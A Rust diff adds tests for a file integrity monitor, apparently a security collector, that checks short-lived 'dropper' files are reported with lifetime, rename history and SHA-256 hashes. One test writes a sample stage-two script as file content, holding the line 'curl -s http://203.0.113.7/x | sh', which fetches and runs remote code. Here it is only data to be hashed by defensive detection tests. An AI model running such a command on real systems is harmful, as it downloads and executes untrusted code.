@@ -116,7 +116,7 @@ fn create_modify_rename_delete_and_restart() {
         Some(sha256_hex(b"saved by editor\n").as_str())
     );
 
-    // A subdirectory and a file in it; a transient file is not reported.
+    // A subdirectory and a file in it; a transient file.
     let sub = w.join("sub");
     fs::create_dir(&sub).expect("mkdir");
     let c = sub.join("c.sh");
@@ -137,13 +137,20 @@ fn create_modify_rename_delete_and_restart() {
     assert_eq!(
         events
             .iter()
-            .filter(
-                |v| str_at(v, "/file/path").is_some_and(|p| p.ends_with("transient")
-                    || p.ends_with(".swp")
-                    || p.ends_with(".tmp"))
-            )
+            .filter(|v| str_at(v, "/file/path")
+                .is_some_and(|p| p.ends_with(".swp") || p.ends_with(".tmp")))
             .count(),
         0
+    );
+    // A file created and deleted within the debounce window: reported as short-lived.
+    assert_eq!(count("created", &transient), 1);
+    assert_eq!(count("deleted", &transient), 1);
+    assert_eq!(
+        events
+            .iter()
+            .filter(|v| str_at(v, "/file/path") == transient.to_str())
+            .count(),
+        2
     );
     assert_eq!(
         events
@@ -238,6 +245,202 @@ fn missing_paths_degrade_health() {
     assert_eq!(
         h.health.problems(),
         vec!["fim: none of the 1 configured paths exists".to_owned()]
+    );
+    h.stop();
+}
+
+fn timestamp(v: &Value) -> chrono::DateTime<chrono::Utc> {
+    str_at(v, "/@timestamp")
+        .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
+        .map(|t| t.with_timezone(&chrono::Utc))
+        .unwrap_or_else(|| panic!("no @timestamp in {v}"))
+}
+
+/// A dropper's footprint: created, written, renamed and deleted within a few milliseconds,
+/// long before the 300 ms debounce fires.
+#[test]
+fn short_lived_file_is_reported() {
+    let state = tempfile::tempdir().expect("state");
+    let watched = tempfile::tempdir().expect("watched");
+    let w = watched.path();
+    let h = Harness::start(&config(w), state.path());
+    h.wait_ready("fim");
+
+    let dropped = w.join("dropper.tmp");
+    let payload = w.join("payload.bin");
+    let content = b"\x7fELF short-lived payload";
+    let started = std::time::Instant::now();
+    {
+        let mut f = fs::File::create(&dropped).expect("create");
+        f.write_all(content).expect("write");
+    }
+    fs::rename(&dropped, &payload).expect("rename");
+    fs::remove_file(&payload).expect("remove");
+    eprintln!("the file lived {:?}", started.elapsed());
+
+    let created = h.wait_for("created", 10, |v| is(v, "created", &dropped));
+    assert_eq!(created["event"]["type"], serde_json::json!(["creation"]));
+    assert_eq!(created["event"]["category"], serde_json::json!(["file"]));
+    assert_eq!(created["dozor"]["file"]["short_lived"], true);
+    assert_eq!(created["file"]["name"], "dropper.tmp");
+    assert_eq!(created["file"]["extension"], "tmp");
+    assert_eq!(str_at(&created, "/file/directory"), w.to_str());
+    assert_eq!(created["file"]["type"], "file");
+
+    let renamed = h.wait_for("renamed", 10, |v| is(v, "renamed", &payload));
+    assert_eq!(renamed["event"]["type"], serde_json::json!(["change"]));
+    assert_eq!(
+        str_at(&renamed, "/dozor/file/previous_path"),
+        dropped.to_str()
+    );
+    assert_eq!(renamed["dozor"]["file"]["short_lived"], true);
+    assert_eq!(renamed["file"]["name"], "payload.bin");
+
+    let deleted = h.wait_for("deleted", 10, |v| is(v, "deleted", &payload));
+    assert_eq!(deleted["event"]["type"], serde_json::json!(["deletion"]));
+    assert_eq!(deleted["dozor"]["file"]["short_lived"], true);
+    assert_eq!(
+        str_at(&deleted, "/dozor/file/original_path"),
+        dropped.to_str()
+    );
+    let duration = deleted["event"]["duration"]
+        .as_u64()
+        .expect("event.duration");
+    let lifetime = deleted["dozor"]["file"]["lifetime_ms"]
+        .as_f64()
+        .expect("lifetime_ms");
+    assert!((0.0..5_000.0).contains(&lifetime), "{lifetime}");
+    assert!((duration as f64 / 1e6 - lifetime).abs() < 0.01);
+    assert!(deleted["event"]["start"].is_string() && deleted["event"]["end"].is_string());
+    assert_eq!(deleted["event"]["start"], created["@timestamp"]);
+    assert_eq!(deleted["event"]["end"], deleted["@timestamp"]);
+    assert!(timestamp(&created) <= timestamp(&renamed));
+    assert!(timestamp(&renamed) <= timestamp(&deleted));
+    // The content could only be read if the collector opened the file before it was gone.
+    match str_at(&deleted, "/file/hash/sha256") {
+        Some(sha) => {
+            assert_eq!(sha, sha256_hex(content));
+            assert_eq!(deleted["file"]["size"], content.len());
+        }
+        None => eprintln!("the file was gone before the collector could open it"),
+    }
+
+    h.drain_for(Duration::from_millis(700));
+    let events = h.stop();
+    let on = |p: &Path| {
+        events
+            .iter()
+            .filter(|v| str_at(v, "/file/path") == p.to_str())
+            .count()
+    };
+    assert_eq!(on(&dropped), 1, "only the creation under the first name");
+    assert_eq!(on(&payload), 2, "the rename and the deletion");
+}
+
+/// The descriptor the collector opens when a file is created outlives the name: the
+/// short-lived file is reported with its size, owner and SHA-256.
+#[test]
+fn short_lived_file_is_hashed_through_the_held_descriptor() {
+    let state = tempfile::tempdir().expect("state");
+    let watched = tempfile::tempdir().expect("watched");
+    let w = watched.path();
+    let h = Harness::start(&config(w), state.path());
+    h.wait_ready("fim");
+
+    let path = w.join("stage2.sh");
+    let content = b"#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n";
+    fs::write(&path, content).expect("write");
+    // Wait (bounded) until the collector holds the file open: a link in our own fd table.
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    let held = || {
+        fs::read_dir("/proc/self/fd")
+            .map(|d| {
+                d.flatten()
+                    .any(|e| fs::read_link(e.path()).is_ok_and(|t| t == path))
+            })
+            .unwrap_or(false)
+    };
+    while !held() {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the collector never opened the new file"
+        );
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let renamed_to = w.join("stage2.sh.bak");
+    fs::rename(&path, &renamed_to).expect("rename");
+    fs::remove_file(&renamed_to).expect("remove");
+
+    let sha = sha256_hex(content);
+    let created = h.wait_for("created", 10, |v| is(v, "created", &path));
+    assert_eq!(str_at(&created, "/file/hash/sha256"), Some(sha.as_str()));
+    assert_eq!(created["file"]["size"], content.len());
+    assert_eq!(created["file"]["owner"], "root");
+    assert!(created["file"]["mode"].is_string() && created["file"]["inode"].is_string());
+    assert_eq!(created["related"]["hash"], serde_json::json!([sha]));
+    let deleted = h.wait_for("deleted", 10, |v| is(v, "deleted", &renamed_to));
+    assert_eq!(str_at(&deleted, "/file/hash/sha256"), Some(sha.as_str()));
+    assert_eq!(deleted["file"]["size"], content.len());
+    assert_eq!(str_at(&deleted, "/dozor/file/original_path"), path.to_str());
+    h.wait_for("renamed", 10, |v| is(v, "renamed", &renamed_to));
+    // The descriptor is closed once the file is reported.
+    h.drain_for(Duration::from_millis(100));
+    assert!(
+        !fs::read_dir("/proc/self/fd")
+            .expect("fds")
+            .flatten()
+            .any(|e| fs::read_link(e.path())
+                .is_ok_and(|t| t.to_string_lossy().contains("stage2.sh"))),
+        "descriptor still open"
+    );
+    h.stop();
+}
+
+/// Moved out of the watched tree (or to an excluded name) before the debounce: created, then
+/// deleted with `moved_out` (and the destination when the watcher saw it).
+#[test]
+fn short_lived_file_moved_away() {
+    let state = tempfile::tempdir().expect("state");
+    let watched = tempfile::tempdir().expect("watched");
+    let elsewhere = tempfile::tempdir().expect("elsewhere");
+    let w = watched.path();
+    let h = Harness::start(&config(w), state.path());
+    h.wait_ready("fim");
+
+    let out = w.join("out.bin");
+    fs::write(&out, b"moved out").expect("write");
+    fs::rename(&out, elsewhere.path().join("out.bin")).expect("move out");
+    let hidden = w.join("hidden.bin");
+    let excluded = w.join("hidden.bin.swp");
+    fs::write(&hidden, b"hidden").expect("write");
+    fs::rename(&hidden, &excluded).expect("rename to an excluded name");
+
+    h.wait_for("created out", 10, |v| is(v, "created", &out));
+    let d = h.wait_for("moved out", 10, |v| is(v, "deleted", &out));
+    assert_eq!(d["dozor"]["file"]["moved_out"], true);
+    assert_eq!(d["dozor"]["file"]["short_lived"], true);
+    h.wait_for("created hidden", 10, |v| is(v, "created", &hidden));
+    let d = h.wait_for("hidden", 10, |v| is(v, "deleted", &hidden));
+    assert_eq!(d["dozor"]["file"]["moved_out"], true);
+    assert_eq!(str_at(&d, "/dozor/file/moved_to"), excluded.to_str());
+    // A new directory with a file, renamed at once: the file moved, it was not deleted.
+    let dir = w.join("newdir");
+    fs::create_dir(&dir).expect("mkdir");
+    fs::write(dir.join("f.conf"), b"moved with its directory").expect("write");
+    let dir2 = w.join("newdir2");
+    fs::rename(&dir, &dir2).expect("rename dir");
+    h.wait_for("file in the renamed directory", 10, |v| {
+        is(v, "created", &dir2.join("f.conf"))
+    });
+    h.drain_for(Duration::from_millis(500));
+    assert_eq!(
+        h.count(|v| str_at(v, "/file/path").is_some_and(|p| p.ends_with(".swp"))),
+        0
+    );
+    assert_eq!(
+        h.count(|v| str_at(v, "/file/path") == dir.join("f.conf").to_str()),
+        0,
+        "no short-lived report for a file that moved with its directory"
     );
     h.stop();
 }
